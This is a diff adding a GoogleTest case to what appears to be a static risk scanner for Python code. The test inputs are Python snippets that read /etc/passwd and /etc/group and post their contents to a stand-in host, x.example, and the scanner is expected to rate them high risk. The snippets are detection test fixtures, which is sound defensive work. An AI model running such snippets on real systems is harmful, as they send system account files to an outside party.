@@ -60,3 +60,24 @@ TEST(AssessBindings, APathParameterOpenedForReadingIsRead) {
   EXPECT_EQ(level(reader + "requests.post('https://x.example/u', data=read_text(Path('build/install.log')))\n"),
             RiskLevel::medium);
 }
+
+TEST(AssessBindings, PathsFromAConfigObjectAreReadWhereverTheyGo) {
+  // A dataclass's default tuple of paths, iterated in a comprehension or handed to a method
+  // that reads each with Path(p).read_text().
+  const std::string cfg = "import requests\nfrom dataclasses import dataclass\nfrom pathlib import Path\n"
+                          "@dataclass\nclass Cfg:\n    sources: tuple[str, ...] = ('/etc/passwd', '/etc/group')\n"
+                          "cfg = Cfg()\n";
+  EXPECT_EQ(level(cfg + "texts = [Path(p).read_text() for p in cfg.sources]\n"
+                        "requests.post('https://x.example/u', json=texts)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level(cfg + "class Taker:\n    def take(self, paths):\n        out = []\n        for p in paths:\n"
+                        "            out.append(Path(p).read_text())\n        return out\n"
+                        "requests.post('https://x.example/u', json=Taker().take(cfg.sources))\n"),
+            RiskLevel::high);
+  const std::string own = "import requests\nfrom dataclasses import dataclass\nfrom pathlib import Path\n"
+                          "@dataclass\nclass Cfg:\n    sources: tuple[str, ...] = ('notes.txt', 'todo.txt')\n"
+                          "cfg = Cfg()\n";
+  EXPECT_EQ(level(own + "texts = [Path(p).read_text() for p in cfg.sources]\n"
+                        "requests.post('https://x.example/u', json=texts)\n"),
+            RiskLevel::medium);
+}
